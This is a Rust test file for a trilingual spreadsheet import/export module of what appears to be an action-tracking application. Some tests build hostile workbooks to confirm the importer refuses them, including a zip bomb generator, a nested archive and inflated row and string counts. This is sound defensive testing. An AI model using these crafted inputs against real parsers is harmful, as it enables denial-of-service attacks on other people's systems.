            .map(|i| MatrixRow {
                id: format!("{i:064x}"),
                area: "Formation du personnel militaire".into(),
                title_ar: format!("تدريب {i}"),
                title_fr: format!("Action {i}"),
                owner: "MAR".into(),
                unit: "École".into(),
                start: date(2025, 3, 1),
                due: date(2025, 12, 31),
                status: "in_progress",
                progress: 40,
                indicator: Some(("places".into(), 0, 20, 5)),
                days_late: 0,
                last_update: "2025-02-17T09:00:00Z".into(),
                decision: String::new(),
                reason: String::new(),
                pledges: lajna_outputs::values::Pledges::None,
            })
            .collect()
    }

    /// The parts of a package, in order.
    fn parts(xlsx: &[u8]) -> Vec<(String, Vec<u8>)> {
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
        (0..zip.len())
            .map(|i| {
                let mut f = zip.by_index(i).unwrap();
                let mut bytes = Vec::new();
                f.read_to_end(&mut bytes).unwrap();
                (f.name().unwrap().to_string(), bytes)
            })
            .collect()
    }

    fn package(parts: &[(String, Vec<u8>)]) -> Vec<u8> {
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        for (name, bytes) in parts {
            w.start_file(name.as_str(), SimpleFileOptions::default()).unwrap();
            w.write_all(bytes).unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    /// The exported matrix with one part's text rewritten.
    fn rewritten(part: &str, change: impl FnOnce(String) -> String) -> Vec<u8> {
        let mut p = parts(&to_xlsx(&matrix(), Lang::Fr).unwrap());
        let (_, bytes) = p.iter_mut().find(|(n, _)| n == part).unwrap_or_else(|| panic!("no part {part}"));
        let text = String::from_utf8(std::mem::take(bytes)).unwrap();
        let new = change(text.clone());
        assert_ne!(new, text, "the rewrite changed nothing in {part}");
        *bytes = new.into_bytes();
        package(&p)
    }

    const SHEET: &str = "xl/worksheets/sheet1.xml";

    /// One more cell in the last row of the sheet.
    fn with_cell(cell: &str) -> Vec<u8> {
        rewritten(SHEET, |xml| {
            xml.replace("</row></sheetData>", &format!("<c r=\"{cell}\"><v>1</v></c></row></sheetData>"))
        })
    }

    #[test]
    fn an_exported_matrix_still_reads_back_with_its_values() {
        let m = read(&to_xlsx(&matrix(), Lang::Fr).unwrap()).unwrap();
        assert_eq!((m.lang, m.header_row, m.rows.len()), (Lang::Fr, 1, 3));
        let v = m.rows[2].values.as_ref().unwrap();
        assert_eq!((v.title_fr.as_deref(), v.due), (Some("Action 3"), Some(date(2025, 12, 31))));
        // Rewritten through the test's own ZIP writer, it still reads the same.
        assert_eq!(read(&package(&parts(&to_xlsx(&matrix(), Lang::Fr).unwrap()))).unwrap(), m);
        assert_eq!(read(&to_csv(&matrix(), Lang::Fr).unwrap()).unwrap().rows.len(), 3);
    }

    #[test]
    fn excel_s_own_last_cell_is_refused_by_the_row_limit_naming_the_cell() {
        let err = read(&with_cell("XFD1048576")).unwrap_err();
        assert_eq!(err, ImportError::TooManyRows { cell: "XFD1048576".into(), limit: 10_000 });
        assert_eq!(err.key(), "import-file-too-many-rows");
        assert!(err.to_string().contains("at most 10000 rows"), "{err}");
    }

    #[test]
    fn a_reference_beyond_excel_s_grid_is_refused_as_not_a_reference() {
        let err = read(&with_cell("ZZZZ99999999")).unwrap_err();
        assert_eq!(err, ImportError::BadReference { cell: "ZZZZ99999999".into() });
        assert_eq!(read(&with_cell("A0")).unwrap_err(), ImportError::BadReference { cell: "A0".into() });
        assert_eq!(read(&with_cell("XFE1")).unwrap_err(), ImportError::BadReference { cell: "XFE1".into() });
    }

    #[test]
    fn a_cell_past_the_column_limit_is_refused_naming_the_cell() {
        assert_eq!(read(&with_cell("BM2")).unwrap_err(), ImportError::TooManyColumns { cell: "BM2".into(), limit: 64 });
        // Within the limits it reads.
        assert!(read(&with_cell("BL2")).is_ok());
    }

    #[test]
    fn a_dimension_that_lies_is_refused_by_its_corner_and_so_is_a_cell_past_a_small_dimension() {
        let lie = rewritten(SHEET, |xml| {
            let at = xml.find("<dimension ref=\"").unwrap() + 16;
            let end = at + xml[at..].find('"').unwrap();
            format!("{}A1:O1048576{}", &xml[..at], &xml[end..])
        });
        assert_eq!(read(&lie).unwrap_err(), ImportError::TooManyRows { cell: "O1048576".into(), limit: 10_000 });
        let small = rewritten(SHEET, |xml| {
            let at = xml.find("<dimension ref=\"").unwrap() + 16;
            let end = at + xml[at..].find('"').unwrap();
            let xml = format!("{}A1:B2{}", &xml[..at], &xml[end..]);
            xml.replace("</row></sheetData>", "<c r=\"C20000\"><v>1</v></c></row></sheetData>")
        });
        assert_eq!(read(&small).unwrap_err(), ImportError::TooManyRows { cell: "C20000".into(), limit: 10_000 });
    }

    #[test]
    fn a_row_past_the_limit_is_refused_even_without_cells() {
        let bytes = rewritten(SHEET, |xml| xml.replace("</sheetData>", "<row r=\"10001\"></row></sheetData>"));
        assert_eq!(read(&bytes).unwrap_err(), ImportError::TooManyRows { cell: "10001:10001".into(), limit: 10_000 });
        // Rows and cells without references are placed as calamine places them: after the last.
        let limits = ImportLimits { max_rows: 4, ..ImportLimits::default() };
        let bytes = rewritten(SHEET, |xml| xml.replace("</sheetData>", "<row><c><v>1</v></c></row></sheetData>"));
        assert_eq!(read_with(&bytes, &limits).unwrap_err(), ImportError::TooManyRows { cell: "A5".into(), limit: 4 });
    }

    #[test]
    fn a_sheet_with_more_cells_than_the_limit_is_refused_at_the_first_cell_past_it() {
        let mut data = String::from("<sheetData>");
        for r in 1..=10_000u32 {
            data.push_str(&format!("<row r=\"{r}\">"));
            for c in b'A'..=b'U' {
                data.push_str(&format!("<c r=\"{}{r}\"><v>1</v></c>", c as char));
            }
            data.push_str("</row>");
        }
        data.push_str("</sheetData>");
        let bytes = rewritten(SHEET, |xml| {
            let (at, end) = (xml.find("<sheetData>").unwrap(), xml.find("</sheetData>").unwrap() + 12);
            format!("{}{data}{}", &xml[..at], &xml[end..]).replace("A1:R4", "A1:U10000")
        });
        // 21 cells a row: cell 200,001 is the 18th (R) of row 9,524.
        assert_eq!(read(&bytes).unwrap_err(), ImportError::TooManyCells { cell: "R9524".into(), limit: 200_000 });
    }

    #[test]
    fn a_shared_string_table_declaring_a_huge_count_is_refused_before_calamine_reserves_it() {
        let bytes = rewritten("xl/sharedStrings.xml", |xml| {
            let at = xml.find("uniqueCount=\"").unwrap() + 13;
            let end = at + xml[at..].find('"').unwrap();
            format!("{}1000000000000{}", &xml[..at], &xml[end..])
        });
        assert_eq!(read(&bytes).unwrap_err(), ImportError::TooManySharedStrings { limit: 200_000 });
        // A count that is not plain digits is not guessed at either.
        let signed =
            rewritten("xl/sharedStrings.xml", |xml| xml.replacen("uniqueCount=\"", "uniqueCount=\"+1000000000000", 1));
        assert!(matches!(read(&signed).unwrap_err(), ImportError::Unreadable(_)));
    }

    /// A package whose `part` is `head`, then `size` bytes of `fill` repeated, then `tail`,
    /// written as it deflates (the test never holds the inflated part).
    fn with_big_part(part: &str, head: &str, fill: &[u8], size: u64, tail: &str) -> Vec<u8> {
        let base = parts(&to_xlsx(&matrix(), Lang::Fr).unwrap());
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        for (name, bytes) in base.iter().filter(|(n, _)| n != part) {
            w.start_file(name.as_str(), SimpleFileOptions::default()).unwrap();
            w.write_all(bytes).unwrap();
        }
        let opts = SimpleFileOptions::default().compression_level(Some(9)).large_file(size > u64::from(u32::MAX));
        w.start_file(part, opts).unwrap();
        w.write_all(head.as_bytes()).unwrap();
        let chunk: Vec<u8> = fill.iter().copied().cycle().take(1 << 20).collect();
        let mut left = size;
        while left > 0 {
            let n = left.min(chunk.len() as u64) as usize;
            w.write_all(&chunk[..n]).unwrap();
            left -= n as u64;
        }
        w.write_all(tail.as_bytes()).unwrap();
        w.finish().unwrap().into_inner()
    }

    #[test]
    fn a_100_mb_shared_string_is_refused_by_the_text_limit_without_being_held() {
        let head = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\" uniqueCount=\"1\"><si><t>";
        let bytes = with_big_part("xl/sharedStrings.xml", head, b"a", 100 * MIB, "</t></si></sst>");
        assert!(bytes.len() < 1 << 20, "a small file: {} bytes", bytes.len());
        let err = read(&bytes).unwrap_err();
        assert_eq!(err, ImportError::TooMuchText { limit: 16 * MIB });
        assert_eq!(err.key(), "import-file-too-much-text");
    }

    #[test]
    fn a_part_inflating_past_the_cap_is_refused_as_a_zip_bomb_whatever_its_declared_size() {
        let bytes = with_big_part("xl/media/image1.png", "", b"<x>aaaaaaaaaaaaaaaaaaaaaaaaaaaaa</x>", 100 * MIB, "");
        assert!(bytes.len() < 1 << 20, "a small file: {} bytes", bytes.len());
        let err = read(&bytes).unwrap_err();
        assert_eq!(err, ImportError::Inflated { part: "xl/media/image1.png".into(), limit: 64 * MIB });
        // A smaller cap set by the caller is kept the same way.
        let limits = ImportLimits { max_inflated_bytes: 8 * MIB, ..ImportLimits::default() };
        let small = with_big_part("xl/media/image1.png", "", b"<x>aaaa</x>", 8 * MIB, "");
        assert_eq!(
            read_with(&small, &limits).unwrap_err(),
            ImportError::Inflated { part: "xl/media/image1.png".into(), limit: 8 * MIB }
        );
    }

    #[test]
    fn an_archive_inside_the_workbook_is_refused_naming_its_part() {
        let mut p = parts(&to_xlsx(&matrix(), Lang::Fr).unwrap());
        p.push(("xl/embeddings/inner.bin".into(), to_xlsx(&matrix(), Lang::Fr).unwrap()));
        assert_eq!(
            read(&package(&p)).unwrap_err(),
            ImportError::NestedArchive { part: "xl/embeddings/inner.bin".into() }
        );
    }

    #[test]
    fn a_package_with_too_many_parts_is_refused_before_it_is_indexed() {
        let mut p = parts(&to_xlsx(&matrix(), Lang::Fr).unwrap());
        let base = p.len() as u64;
        for i in 0..100 {
            p.push((format!("xl/extra/{i}.xml"), b"<x/>".to_vec()));
        }
        assert_eq!(read(&package(&p)).unwrap_err(), ImportError::TooManyParts { parts: base + 100, limit: 100 });
    }

    #[test]
    fn a_file_larger_than_the_limit_is_refused_before_it_is_parsed() {
        let limits = ImportLimits { max_file_bytes: 1000, ..ImportLimits::default() };
        let bytes = to_xlsx(&matrix(), Lang::Fr).unwrap();
        assert_eq!(
            read_with(&bytes, &limits).unwrap_err(),
            ImportError::FileTooLarge { bytes: bytes.len() as u64, limit: 1000 }
        );
        let csv = vec![b'a'; 1001];
        assert_eq!(read_with(&csv, &limits).unwrap_err(), ImportError::FileTooLarge { bytes: 1001, limit: 1000 });
    }

    #[test]
    fn a_csv_file_is_bounded_in_rows_columns_and_cells() {
        let rows = |n: u32| (0..n).fold(String::from("Identifiant;Domaine\n"), |t, i| t + &format!(";Domaine {i}\n"));
        assert_eq!(
            read(rows(10_000).as_bytes()).unwrap_err(),
            ImportError::TooManyRows { cell: "A10001".into(), limit: 10_000 }
        );
        let wide = format!("Identifiant;Domaine\n{}\n", ";".repeat(64));
        assert_eq!(read(wide.as_bytes()).unwrap_err(), ImportError::TooManyColumns { cell: "BM2".into(), limit: 64 });
        let limits = ImportLimits { max_cells: 5, ..ImportLimits::default() };
        let csv = "Identifiant;Domaine\n;a\n;b\n";
        assert_eq!(
            read_with(csv.as_bytes(), &limits).unwrap_err(),
            ImportError::TooManyCells { cell: "B3".into(), limit: 5 }
        );
        // Within the limits, a CSV file reads as before.
        assert_eq!(read(rows(9_999).as_bytes()).unwrap().rows.len(), 9_999);
    }

    #[test]
    fn every_refusal_has_its_message_in_the_three_catalogues_with_its_arguments() {
        let refusals = [
            ImportError::FileTooLarge { bytes: 1, limit: MIB },
            ImportError::TooManyParts { parts: 101, limit: 100 },
            ImportError::NestedArchive { part: "x.zip".into() },
            ImportError::Inflated { part: "x.xml".into(), limit: MIB },
            ImportError::BadReference { cell: "ZZZZ1".into() },
            ImportError::TooManyRows { cell: "A1".into(), limit: 1 },
            ImportError::TooManyColumns { cell: "A1".into(), limit: 1 },
            ImportError::TooManyCells { cell: "A1".into(), limit: 1 },
            ImportError::TooManySharedStrings { limit: 1 },
            ImportError::TooMuchText { limit: MIB },
        ];
        for lang in ["ar", "fr", "en"] {
            let path = format!("{}/../i18n/locales/{lang}/import.ftl", env!("CARGO_MANIFEST_DIR"));
            let ftl = std::fs::read_to_string(&path).unwrap();
            for e in &refusals {
                let line = ftl
                    .lines()
                    .find(|l| l.starts_with(&format!("{} =", e.key())))
                    .unwrap_or_else(|| panic!("{path}: no {}", e.key()));
                for (name, _) in e.args() {
                    assert!(line.contains(&format!("${name}")), "{path}: {} lacks ${name}", e.key());
                }
            }
        }
    }
}

/// The demo's decisions with their references, in reference order.
async fn demo_decisions(node: &Node) -> Vec<(String, String)> {
    let mut refs: Vec<(String, String)> =
        node.with_state(|s| lajna_domain::reference::decision_references(s).into_iter().collect()).await;
    refs.sort_by(|a, b| a.1.cmp(&b.1));
    refs
}

#[tokio::test]
async fn the_decision_column_holds_the_decision_reference_and_round_trips_in_arabic_french_and_english() {
    let (_dir, node) = demo_node().await;
    let decisions = demo_decisions(&node).await;
    assert_eq!(decisions.iter().map(|(_, r)| r.as_str()).collect::<Vec<_>>(), ["D-2025/1-1", "D-2025/1-2"]);
    let id =
        plan_action(&node, LocalizedText::tri("", "Suivre la décision", ""), LocalizedText::tri("", "EM", ""), None)
            .await;
    let mut set = serde_json::Map::new();
    set.insert("decision".into(), serde_json::json!(decisions[0].0));
    let actor = Actor { party: PartyCode::parse("MAR").unwrap(), member: None };
    node.execute(&actor, &Command::Revise { kind: RecordKind::Action, id: id.clone(), set }).await.unwrap();
    let before = snapshot(&node).await;
    let column = Column::ALL.iter().position(|c| *c == Column::Decision).unwrap();
    for lang in Lang::ALL {
        let rows = matrix_rows(&node, lang).await;
        let row = rows.iter().find(|r| r.id == id).unwrap();
        assert_eq!(cells(row, lang)[column], "D-2025/1-1", "{lang:?}");
        assert_eq!(
            headers(lang)[column],
            ["القرار", "Décision", "Decision"][Lang::ALL.iter().position(|l| *l == lang).unwrap()]
        );
        for bytes in [to_xlsx(&rows, lang).unwrap(), to_csv(&rows, lang).unwrap()] {
            let m = read(&bytes).unwrap();
            assert!(m.columns.contains(&Column::Decision));
            let o = preview(&node, &m).await;
            assert!(outcomes(&o).iter().all(|(_, c)| *c == "unchanged"), "{lang:?}: {:?}", outcomes(&o));
        }
        // Another decision's reference updates the action; an unknown one is refused naming row and column.
        let at = rows.iter().position(|r| r.id == id).unwrap();
        let mut lines: Vec<Vec<String>> = rows.iter().map(|r| cells(r, lang)).collect();
        lines[at][column] = "d-2025/1-2".into();
        let o = preview(&node, &read(&csv_of(lang, &lines)).unwrap()).await;
        match &o.plan.rows[at].outcome {
            Outcome::Update { changed, .. } => assert_eq!(changed, &vec!["decision"]),
            other => panic!("{other:?}"),
        }
        lines[at][column] = "D-2031/9-9".into();
        let o = preview(&node, &read(&csv_of(lang, &lines)).unwrap()).await;
        let sheet_row = at as u32 + 2;
        assert_eq!(refusal_keys(&o, sheet_row), vec!["import-unknown-decision"]);
        let Outcome::Refused(reasons) = &o.plan.rows[at].outcome else { unreachable!() };
        assert_eq!((reasons[0].field, reasons[0].detail.as_str()), (Some("decision"), "D-2031/9-9"));
        assert!(o.written.is_empty());
    }
    assert_eq!(snapshot(&node).await, before, "previews write nothing");
}

/// Issue 17 item 5: a refused row says which party owns its action (the recorded owner for a
/// known id, even when a cell of the row does not read; else the owner cell) and names the
/// column of each reason, in the matrix's language; the row number is the report's own.
#[tokio::test]
async fn a_refused_row_names_its_owning_party_and_each_reasons_column() {
    let (_dir, node) = demo_node().await;
    let rows = matrix_rows(&node, Lang::Fr).await;
    let m = rows.iter().position(|r| r.owner == "MLI").unwrap();
    let r = rows.iter().position(|r| r.owner == "MAR").unwrap();
    let mut lines: Vec<Vec<String>> = rows.iter().map(|r| cells(r, Lang::Fr)).collect();
    let mut new = lines[r].clone();
    lines[m][7] = "31/02/2026".into();
    lines[r][8] = "en attente".into();
    new[0] = String::new();
    new[3] = "Action d’une partie inconnue".into();
    new[4] = "XYZ".into();
    lines.push(new);
    let before = snapshot(&node).await;
    let catalog = lajna_i18n::Catalog::shared();
    let o = preview(&node, &read(&csv_of(Lang::Fr, &lines)).unwrap()).await;
    let details = |row: usize, lang: Lang| -> Vec<String> {
        let planned = o.plan.rows.iter().find(|p| p.row == row as u32 + 2).unwrap();
        lajna_outputs::import_report::row_details(catalog, lang, planned)
            .into_iter()
            .map(|d| d.replace(['\u{2068}', '\u{2069}'], ""))
            .collect()
    };
    assert_eq!(
        details(m, Lang::Fr),
        [
            "Partie propriétaire : MLI",
            "Colonne « Échéance » : Date illisible : « 31/02/2026 ». Écrivez 2025-12-31 ou 31/12/2025."
        ]
    );
    assert_eq!(
        details(r, Lang::Fr),
        [
            "Partie propriétaire : MAR".to_string(),
            "Colonne « Statut » : Statut inconnu « en attente ». Écrivez l’un de ceux-ci : Prévue, En cours, Réalisée, Retardée, Bloquée, Annulée.".into()
        ]
    );
    let last = details(lines.len() - 1, Lang::Fr);
    assert_eq!(last[0], "Partie propriétaire : XYZ");
    assert!(
        last.contains(&"Colonne « Partie responsable » : « XYZ » n’est pas une partie du comité.".to_string()),
        "{last:?}"
    );
    // The same report in Arabic and English.
    let ar = details(m, Lang::Ar);
    assert_eq!(ar[0], "الطرف المالك: MLI");
    assert!(ar[1].starts_with("العمود «الأجل»: ") && ar[1].contains("31/02/2026"), "{ar:?}");
    assert_eq!(details(r, Lang::En)[0], "Owning party: MAR");
    assert!(
        details(r, Lang::En)[1].starts_with("Column “Status”: Unknown status “en attente”."),
        "{:?}",
        details(r, Lang::En)
    );
    assert_eq!(snapshot(&node).await, before, "nothing written");
}

/// A pledge of `party` on `about`, dated 2025-01-10 and due 2026-12-31.
async fn pledge(node: &Node, party: &str, about: &str, value: lajna_domain::resources::Pledged, only: bool) -> String {
    use lajna_domain::{Marking, Releasability};
    let party = PartyCode::parse(party).unwrap();
    let marking = Marking {
        releasable_to: if only { Releasability::Only(party.clone()) } else { Releasability::Both },
        ..Marking::default()
    };
    let p = lajna_domain::resources::Pledge {
        party: party.clone(),
        about: about.to_string(),
        date: date(2025, 1, 10),
        due: date(2026, 12, 31),
        value,
        marking,
        illustrative: false,
    };
    node.execute(&Actor { party, member: None }, &Command::MakePledge(p)).await.unwrap()[0].to_hex()
}

async fn deliver(node: &Node, party: &str, pledge: &str, value: lajna_domain::resources::Delivered) {
    let delivery = lajna_domain::resources::Delivery { date: date(2025, 2, 1), value, evidence: None };
    let actor = Actor { party: PartyCode::parse(party).unwrap(), member: None };
    node.execute(&actor, &Command::RecordDelivery { pledge: pledge.into(), delivery }).await.unwrap();
}

/// Issue 18 item 4 and its must-show: the matrix's value columns (what the owner pledged on
/// the action and delivered) export in ar/fr/en, CSV and XLSX, and import back unchanged; a
/// party-private pledge is in no matrix; a raised delivered value records a delivery of the
/// difference, a value on an action without pledge makes one; a decimal point in a French
/// matrix, an unknown currency, a negative amount or a lowered delivered value is refused with
/// its row and column, and nothing is written.
#[tokio::test]
async fn value_columns_round_trip_in_three_languages_and_refuse_bad_values_with_row_and_column() {
    use lajna_domain::money::{Currency, InKind, Money, Quantity};
    use lajna_domain::resources::{Delivered, Pledged};
    use lajna_outputs::import_report::refusal_line;
    let (dir, node) = demo_node().await;
    let t = |fr: &str| LocalizedText::tri("", fr, "");
    let money = plan_action(&node, t("Financer le stage"), t("EMG"), None).await;
    let seats = plan_action(&node, t("Places à l’école"), t("EMG"), None).await;
    let mixed = plan_action(&node, t("Soutien logistique"), t("EMG"), None).await;
    let bare = plan_action(&node, t("Action sans engagement"), t("EMG"), None).await;
    let mad = |minor| Money::new(minor, Currency::MAD).unwrap();
    let p = pledge(&node, "MAR", &money, Pledged::Money(mad(2_000_000)), false).await;
    deliver(&node, "MAR", &p, Delivered::Money(mad(500_000))).await;
    // A party-private cost on the same action: in no matrix, not even its own party's.
    pledge(&node, "MAR", &money, Pledged::Money(mad(99_999_999)), true).await;
    let unit = LocalizedText::tri("مقاعد تدريب", "places de formation", "training seats");
    let in_kind = InKind { quantity: Quantity::whole(20).unwrap(), unit, valuation: Some(mad(40_000_000)) };
    let s = pledge(&node, "MAR", &seats, Pledged::InKind(in_kind), false).await;
    let half = Quantity::parse("2.5", Lang::En, "q").unwrap();
    deliver(&node, "MAR", &s, Delivered::InKind { quantity: Quantity::whole(5).unwrap() }).await;
    deliver(&node, "MAR", &s, Delivered::InKind { quantity: half }).await;
    pledge(&node, "MAR", &mixed, Pledged::Money(mad(100_000)), false).await;
    let xof = Money::new(650_000, Currency::XOF).unwrap();
    pledge(&node, "MAR", &mixed, Pledged::Money(xof), false).await;
    let before = snapshot(&node).await;
    let [pledged, _, delivered] = [Column::Pledged, Column::Currency, Column::Delivered]
        .map(|c| Column::ALL.iter().position(|x| *x == c).unwrap());
    for (lang, cents, seats_text, mixed_text) in [
        (Lang::Fr, ["20000,00", "MAD", "5000,00"], ["20", "places de formation", "7,5"], "1000,00 MAD + 650000 XOF"),
        (Lang::Ar, ["20000,00", "MAD", "5000,00"], ["20", "مقاعد تدريب", "7,5"], "1000,00 MAD + 650000 XOF"),
        (Lang::En, ["20000.00", "MAD", "5000.00"], ["20", "training seats", "7.5"], "1000.00 MAD + 650000 XOF"),
    ] {
        let rows = matrix_rows(&node, lang).await;
        let row = |id: &str| rows.iter().find(|r| r.id == id).unwrap();
        assert_eq!(cells(row(&money), lang)[pledged..=delivered], cents, "{lang:?}");
        assert_eq!(cells(row(&seats), lang)[pledged..=delivered], seats_text, "{lang:?}");
        assert_eq!(
            cells(row(&mixed), lang)[pledged..=delivered],
            [mixed_text, "", "0,00 MAD + 0 XOF"]
                .map(|x| { if lang == Lang::En { x.replace("0,00", "0.00") } else { x.to_string() } })
        );
        assert_eq!(cells(row(&bare), lang)[pledged..=delivered], ["", "", ""]);
        for (format, bytes) in [("xlsx", to_xlsx(&rows, lang).unwrap()), ("csv", to_csv(&rows, lang).unwrap())] {
            let text = String::from_utf8_lossy(&bytes);
            assert!(!text.contains("999999") && !text.contains("99999,99"), "{lang:?} {format}: the private cost");
            let o = preview(&node, &read(&bytes).unwrap()).await;
            assert!(outcomes(&o).iter().all(|(_, c)| *c == "unchanged"), "{lang:?} {format}: {:?}", outcomes(&o));
        }
        // openpyxl reads the XLSX values as numbers with the currency's decimals.
        let path = dir.path().join(format!("values-{}.xlsx", lang.code()));
        std::fs::write(&path, to_xlsx(&rows, lang).unwrap()).unwrap();
        let doc = python("read_matrix.py", &path, &[]);
        let got: Vec<Vec<String>> = serde_json::from_value(doc["rows"].clone()).unwrap();
        let types: Vec<Vec<String>> = serde_json::from_value(doc["types"].clone()).unwrap();
        let formats: Vec<Vec<String>> = serde_json::from_value(doc["formats"].clone()).unwrap();
        let at = rows.iter().position(|r| r.id == money).unwrap() + 1;
        assert_eq!(got[at][pledged..=delivered], ["20000", "MAD", "5000"], "{lang:?}");
        assert_eq!((types[at][pledged].as_str(), formats[at][pledged].as_str()), ("n", "#,##0.00"));
        let at = rows.iter().position(|r| r.id == seats).unwrap() + 1;
        assert_eq!((got[at][delivered].as_str(), types[at][delivered].as_str()), ("7.5", "n"));
    }
    assert_eq!(snapshot(&node).await, before, "round trips write nothing");

    // Refusals in a French matrix, each naming its row and column; nothing written.
    let rows = matrix_rows(&node, Lang::Fr).await;
    let base: Vec<Vec<String>> = rows.iter().map(|r| cells(r, Lang::Fr)).collect();
    let at = |id: &str| rows.iter().position(|r| r.id == id).unwrap();
    let catalog = lajna_i18n::Catalog::shared();
    for (id, column, value, key, says) in [
        (&money, pledged, "25000.50", "error-wrong-decimal-mark", "Colonne « Valeur engagée »"),
        (
            &money,
            Column::ALL.iter().position(|c| *c == Column::Currency).unwrap(),
            "ZZZ",
            "error-unknown-currency",
            "Colonne « Devise ou unité »",
        ),
        (&bare, pledged, "-5,00", "error-not-positive", "Colonne « Valeur engagée »"),
        (&money, delivered, "4000,00", "import-value-delivered-less", "Colonne « Valeur livrée »"),
        (&mixed, pledged, "2000,00 MAD + 650000 XOF", "import-value-several", "Colonne « Valeur engagée »"),
    ] {
        let mut lines = base.clone();
        lines[at(id)][column] = value.into();
        if id == &bare {
            lines[at(id)][pledged + 1] = "MAD".into();
        }
        let o = node.import_matrix(&Importer::Operator, &read(&csv_of(Lang::Fr, &lines)).unwrap(), true).await.unwrap();
        let sheet_row = at(id) as u32 + 2;
        assert_eq!(refusal_keys(&o, sheet_row), vec![key], "{value}");
        let Outcome::Refused(reasons) = &o.plan.rows[at(id)].outcome else { unreachable!() };
        let line = refusal_line(catalog, Lang::Fr, &reasons[0]).replace(['\u{2068}', '\u{2069}'], "");
        assert!(line.starts_with(says), "{value}: {line}");
        assert!(o.written.is_empty(), "{value}");
        assert_eq!(snapshot(&node).await, before, "{value}: nothing written");
    }

    // A raised delivered value records the difference; a value on a bare action makes a pledge.
    let mut lines = base.clone();
    lines[at(&money)][delivered] = "7500,00".into();
    lines[at(&bare)][pledged..=delivered].clone_from_slice(&["150000".into(), "XOF".into(), String::new()]);
    let o = node.import_matrix(&Importer::Operator, &read(&csv_of(Lang::Fr, &lines)).unwrap(), true).await.unwrap();
    let Outcome::Update { changed, commands, .. } = &o.plan.rows[at(&money)].outcome else { panic!() };
    assert_eq!(changed, &vec!["delivered"]);
    let [Command::RecordDelivery { delivery, .. }] = commands.as_slice() else { panic!("{commands:?}") };
    assert_eq!((delivery.value.clone(), delivery.date), (Delivered::Money(mad(250_000)), node.today()));
    let Outcome::Update { changed, .. } = &o.plan.rows[at(&bare)].outcome else { panic!() };
    assert_eq!(changed, &vec!["pledged"]);
    assert_eq!(o.written.len(), 2);
    let after: Vec<Vec<String>> = matrix_rows(&node, Lang::Fr).await.iter().map(|r| cells(r, Lang::Fr)).collect();
    assert_eq!(after[at(&money)][pledged..=delivered], ["20000,00", "MAD", "7500,00"]);
    assert_eq!(after[at(&bare)][pledged..=delivered], ["150000", "XOF", "0"]);
}
